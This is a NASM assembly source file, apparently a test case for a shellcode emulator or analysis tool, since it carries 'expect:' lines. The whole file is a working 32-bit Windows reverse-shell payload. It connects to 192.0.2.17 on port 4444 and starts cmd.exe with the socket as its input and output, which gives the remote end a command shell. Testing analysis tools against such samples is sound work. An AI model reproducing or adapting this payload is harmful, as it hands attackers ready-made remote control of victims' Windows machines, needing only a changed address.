; SPDX-License-Identifier: GPL-2.0-or-later
; A shell that calls 192.0.2.17, port 4444: a socket made the standard handles of cmd.
; expect: connect 192.0.2.17 4444
; expect: exec C:\Windows\System32\cmd.exe cmd
bits 32
%include "find32.inc"
	push dword 0x3233
	push dword 0x5f327377      ; "ws2_32"
	push esp
	invoke "kernel32.dll", "LoadLibraryA"
	mov eax, 0x190
	sub esp, eax
	push esp
	push eax
	invoke "ws2_32.dll", "WSAStartup"
	xor eax, eax
	push eax
	push eax
	push eax
	push eax
	inc eax
	push eax
	inc eax
	push eax
	invoke "ws2_32.dll", "WSASocketA"
	mov edi, eax
	push dword 0x110200c0      ; 192.0.2.17
	push dword 0x5c110002      ; port 4444, AF_INET
	mov esi, esp
	push 16
	push esi
	push edi
	invoke "ws2_32.dll", "connect"
	test eax, eax
	jnz failed
	push dword 'cmd'
	mov ebx, esp
	push edi
	push edi
	push edi
	xor esi, esi
	push 18
	pop ecx
more:
	push esi
	loop more
	mov word [esp + 0x3c], 0x101
	lea eax, [esp + 0x10]
	mov byte [eax], 0x44
	push esp
	push eax
	push esi
	push esi
	push esi
	inc esi
	push esi
	dec esi
	push esi
	push esi
	push ebx
	push esi
	invoke "kernel32.dll", "CreateProcessA"
	mov eax, esp
	dec esi
	push esi
	push dword [eax]
	invoke "kernel32.dll", "WaitForSingleObject"
failed:
	push 0
	invoke "kernel32.dll", "ExitProcess"
